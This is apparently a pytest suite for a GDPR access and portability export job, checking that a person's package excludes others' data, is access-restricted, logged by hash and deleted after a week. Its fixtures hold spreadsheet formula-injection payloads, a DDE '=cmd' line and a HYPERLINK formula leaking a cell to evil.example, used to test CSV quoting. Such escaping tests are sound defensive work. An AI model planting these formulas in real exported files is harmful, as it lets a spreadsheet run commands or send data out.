"""A package holds what is known of somebody, or what they provided: whole, closed, for a week, and of nobody else."""

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from jobs.platform.database import connect
from jobs.rights.disclosure import disclose
from jobs.rights.disclosure.disclose import AmberError, Wish
from jobs.rights.disclosure.rows import ASKED, KEYED, OTHERS, YOU, Known
from jobs.rights.disclosure.summary import summary
from jobs.rights.finding.find import find
from jobs.rights.finding.found import Findings
from jobs.rights.finding.subject import subject_of
from jobs.rights.finding.tokens import linked
from tests.jobs.retention.world import identity

ADA, BOB = identity("ada"), identity("bob")
REFERENCE = "0123456789abcdef"
DAY = date(2026, 2, 10)
ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture
def full(neighbours):
    """Ada in every table of the platform that can hold somebody, and in three published ones."""
    at = f"{DAY} 09:00:00.000000"
    neighbours.change(
        "UPDATE professional_users SET first_name = 'Ada', phone = '+33 6 98 76 54 32' WHERE user_id = ?", ADA
    )
    one = {"occurred_at": at, "user_id": ADA}
    detail = '{"invited": "bob@example.org", "by": "Ada@example.org"}'
    neighbours.write(
        "activity", event_id=identity("a"), company_id=identity("firm"), action="invite_member", detail=detail,
        session_id="s-of-ada", **one,
    )  # fmt: skip
    neighbours.write("activity", event_id=identity("b"), company_id=identity("firm"), action="invite_member",
                session_id="shared-1", **one)  # fmt: skip
    neighbours.write("activity", event_id=identity("c"), company_id=identity("firm"), action="invite_member",
                session_id="shared-1", occurred_at=at, user_id=BOB)  # fmt: skip
    neighbours.write("security_events", event_id=identity("d"), attempted_login="bob@example.org", kind="login_failed",
                payload="=cmd|' /C calc'!A0", **one)  # fmt: skip
    neighbours.write(
        "contacts", contact_id=identity("e"), agent_email="agent@ignicloud.example", body="Call me.", **one
    )
    neighbours.write("feedback", feedback_id=identity("f"), kind="remark", rating=4, text="Fine, é", **one)
    neighbours.hold("user", "ada", DAY)
    neighbours.change("UPDATE legal_holds SET reason = 'dispute with bob@example.org'")
    neighbours.publish("threat_events", DAY, [
        {"person": "ada", "email": "bob", "ip": "ip4_cbdefghi", "kind": "login_ok"}, {"email": "ada"}, {"person": "bob"}
    ])  # fmt: skip
    neighbours.publish("threat_signals", DAY, [
        {"shared": [("actor", neighbours.token("person", "ada", DAY)), ("object", "obj_" + "c" * 32)],
         "evidence": ["evt_" + "c" * 32]}
    ])  # fmt: skip
    return neighbours


def made(neighbours, right="access", now=None, findings=None):
    """The package of one right: what was said of it, and its files by name."""
    with connect() as platform:
        subject = subject_of(neighbours.promise, platform, ADA)
        known = Known(
            neighbours.promise,
            neighbours.lake,
            platform,
            subject,
            linked(neighbours.promise, neighbours.keyring, subject.names),
        )
        found = findings or Findings(
            find(neighbours.promise, neighbours.lake, neighbours.keyring, subject).found, (), 0
        )
        said = disclose.disclose(Wish(REFERENCE, right), known, found, now or datetime.now(UTC))
    with zipfile.ZipFile(said.path) as package:
        return said, {name: package.read(name).decode() for name in package.namelist()}


def rows(files, name):
    listed = json.loads(files[f"{name}.json"])
    columns, *lines = csv.reader(io.StringIO(files[f"{name}.csv"]))
    assert [list(row) for row in listed] == [columns] * len(lines)
    return listed


def test_access_holds_every_row_of_theirs_and_nobody_elses(full):
    _, files = made(full)
    assert len(rows(files, "platform/activity")) == 2
    [account] = rows(files, "platform/professional_users")
    assert account["user_id"] == ADA
    assert account["phone"] == "+33 6 98 76 54 32"
    everything = "".join(files.values())
    for other in (BOB, "bob@example.org", "agent@ignicloud.example", "shared-1"):
        assert other not in everything, other
    assert "platform/companies.json" not in files
    assert "platform/end_user_health.json" not in files


def test_what_is_another_persons_in_a_row_of_theirs_says_that_it_is_withheld(full):
    _, files = made(full)
    assert {row["session_id"] for row in rows(files, "platform/activity")} == {"s-of-ada", OTHERS}
    [event] = rows(files, "platform/security_events")
    assert event["attempted_login"] == OTHERS
    [contact] = rows(files, "platform/contacts")
    assert (contact["agent_email"], contact["body"]) == (OTHERS, "Call me.")
    [hold] = rows(files, "platform/legal_holds")
    assert (hold["placed_on"], hold["reason"]) == (str(DAY), ASKED)
    details = [row["detail"] for row in rows(files, "platform/activity") if row["detail"]]
    assert [json.loads(detail) for detail in details] == [{"invited": OTHERS, "by": "Ada@example.org"}]


def test_published_rows_are_there_without_a_token_of_anybody(full):
    _, files = made(full)
    events = rows(files, "published/threat_events")
    assert [(row["actor"], row["attempted_login"]) for row in events] == [(YOU, KEYED), (None, YOU)]
    assert (events[0]["ip"], events[0]["kind"], events[0]["day"]) == (KEYED, "login_ok", str(DAY))
    [finding] = rows(files, "published/threat_signals")
    assert (finding["shared"], finding["evidence"]) == ({"actor": YOU, "object": KEYED}, [KEYED])
    assert not any(prefix in "".join(files.values()) for prefix in ("usr_", "eml_", "ses_", "evt_", "ip4_", "obj_"))


def test_portability_holds_what_they_provided_and_nothing_else(full, promise):
    _, files = made(full, "portability")
    assert {name for name in files if name.endswith(".json")} == {
        "platform/professional_users.json", "platform/feedback.json"
    }  # fmt: skip
    [account] = rows(files, "platform/professional_users")
    assert tuple(account) == promise.source("professional_users").provided
    assert (account["first_name"], account["phone"]) == ("Ada", "+33 6 98 76 54 32")
    assert rows(files, "platform/feedback") == [{"kind": "remark", "rating": 4, "text": "Fine, é"}]


def test_a_cell_that_a_spreadsheet_would_calculate_is_quoted_where_anybody_types(full):
    _, files = made(full)
    assert "'=cmd|" in files["platform/security_events.csv"]
    assert rows(files, "platform/security_events")[0]["payload"].startswith("=cmd|")
    assert ",+33 6 98 76 54 32," in files["platform/professional_users.csv"]


@pytest.mark.parametrize(("table", "column"), [
    ("activity", "user_agent"), ("security_events", "user_agent"), ("professional_users", "family_name"),
    ("third_party_profiles", "attribute"),
])  # fmt: skip
def test_it_is_quoted_in_every_column_that_has_no_closed_list_of_values(full, table, column):
    formula = '=HYPERLINK("https://evil.example/?"&A2)'
    full.write(
        "third_party_profiles", user_id=ADA, provider="a", attribute="b", value="c", obtained_at=f"{DAY} 09:00:00"
    )
    full.change(f"UPDATE {table} SET {column} = ? WHERE user_id = ?", formula, ADA)
    _, files = made(full)
    cells = {row[column] for row in csv.DictReader(io.StringIO(files[f"platform/{table}.csv"]))}
    assert cells == {f"'{formula}"}
    assert {row[column] for row in json.loads(files[f"platform/{table}.json"])} == {formula}


def test_the_summary_says_what_why_on_which_basis_until_when_and_who_received_it(full, ledger):
    for day in ("2026-02-09", "2026-02-10"):
        ledger.append("exported", release="partner_threat_events", day=day, recipient="threat_partner")
    page = made(full)[1]["summary.html"]
    for said in (
        "for in-depth threat analysis", "legitimate interest, GDPR art. 6(1)(f)",
        "13 months from the day, and no longer than 18 months after", "the security team", "2 rows are yours",
        "Lémanique Security Lab", "copies of 2 days on record", "Ignilife France SAS", "Counts of attacks with",
    ):  # fmt: skip
        assert said in page, said
    short = made(full, "portability")[1]["summary.html"]
    assert "article 20" in short
    assert "Lémanique" not in short
    for each in (page, short):
        assert "<b>phone</b>: telephone number of the account holder" in each
        assert "ours is CNIL, 3 place de Fontenoy" in each


def test_the_summary_counts_a_recipients_days_by_release_and_takes_no_years_for_months(full, ledger, promise):
    contract = promise.exports["partner_threat_events"]
    second = contract.model_copy(update={"release": "second_copy", "title": "A second copy"})
    register = promise.register.model_copy(update={"authority": ""})
    exports = {**promise.exports, "second_copy": second}
    for release, days in (("partner_threat_events", ("2026-02-09", "2026-02-10")), ("second_copy", ("2026-02-10",))):
        for day in days:
            ledger.append("exported", release=release, day=day, recipient="threat_partner")
    said = replace(promise, register=register, exports=exports)
    page = summary(said, "access", [], Findings((), (), 0), ledger, datetime.now(UTC))
    assert f"{contract.title}, copies of 2 days on record; A second copy, copies of 1 days on record" in page
    assert "Kept until 18 months after" in page
    assert "supervisory authority where you live (clause 9.3)" in page
    years = replace(promise, register=promise.register.model_copy(update={"relationship_keep": "P2Y"}))
    with pytest.raises(ValueError, match="whole months"):
        summary(years, "access", [], Findings((), (), 0), ledger, datetime.now(UTC))


def test_the_package_is_closed_to_others_and_its_bytes_can_be_searched(full, promise):
    said, _ = made(full)
    assert said.path == full.lake.root / "packages" / REFERENCE / "access.zip"
    assert said.path.stat().st_mode & 0o777 == 0o600
    assert said.path.parent.stat().st_mode & 0o777 == said.path.parent.parent.stat().st_mode & 0o777 == 0o700
    with connect() as platform:
        found = find(promise, full.lake, full.keyring, subject_of(promise, platform, ADA))
    assert [each.files for each in found.found if each.place == "zone packages"] == [1]


def test_the_record_has_counts_and_a_hash_and_nothing_of_the_person(full, ledger):
    said, _ = made(full)
    entry = ledger.last("package_disclosed")
    assert {name: entry[name] for name in ("reference", "right", "rows", "sha256")} == {
        "reference": REFERENCE, "right": "access", "rows": said.rows, "sha256": said.sha256
    }  # fmt: skip
    assert (entry["tables"], entry["releases"], entry["rows"]) == (11, 2, 10)
    said_aloud = ledger.path.read_text() + repr(said)
    assert not any(text in said_aloud for text in (ADA, "ada@example.org", "s-of-ada"))


def test_asked_again_the_same_package_stays(full, ledger):
    first, again = made(full)[0], made(full)[0]
    assert first == again
    assert len(list(ledger.entries("package_disclosed"))) == 1


def test_findings_that_wait_for_a_person_disclose_nothing(full, ledger):
    amber = Findings((), ("release threat_events: no row was found",), 0)
    with pytest.raises(AmberError, match=r"no row was found.*nothing was disclosed") as caught:
        made(full, findings=amber)
    assert ADA not in str(caught.value)
    assert not list(full.lake.root.glob("packages/*/*"))
    assert ledger.last("package_disclosed") is None


def test_a_package_is_gone_after_a_week_and_that_is_on_record(full, ledger):
    said, _ = made(full)
    now = datetime.now(UTC)
    assert disclose.forget(full.lake, now + timedelta(days=6)) == 0
    assert said.path.exists()
    assert disclose.forget(full.lake, now + timedelta(days=8)) == 1
    assert not said.path.exists()
    assert ledger.last("package_forgotten")["reference"] == REFERENCE


@pytest.mark.parametrize("moment", ["while rows are written", "before it is on record", "before it has its name"])
def test_killed_at_any_point_nothing_is_half_there_and_the_next_run_finishes(full, ledger, moment):
    command = [sys.executable, "-m", "tests.jobs.rights.killed", ADA, moment]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    killed = subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, check=False)
    assert killed.returncode == 9, killed.stderr[-2000:]
    assert not list(full.lake.root.glob("packages/*/*.zip"))
    [half] = full.lake.root.glob("packages/*/.*")
    assert half.stat().st_mode & 0o777 == 0o600
    assert disclose.forget(full.lake, datetime.now(UTC)) == 0
    assert not half.exists()
    said, files = made(full)
    assert "summary.html" in files
    assert ledger.last("package_disclosed")["sha256"] == said.sha256
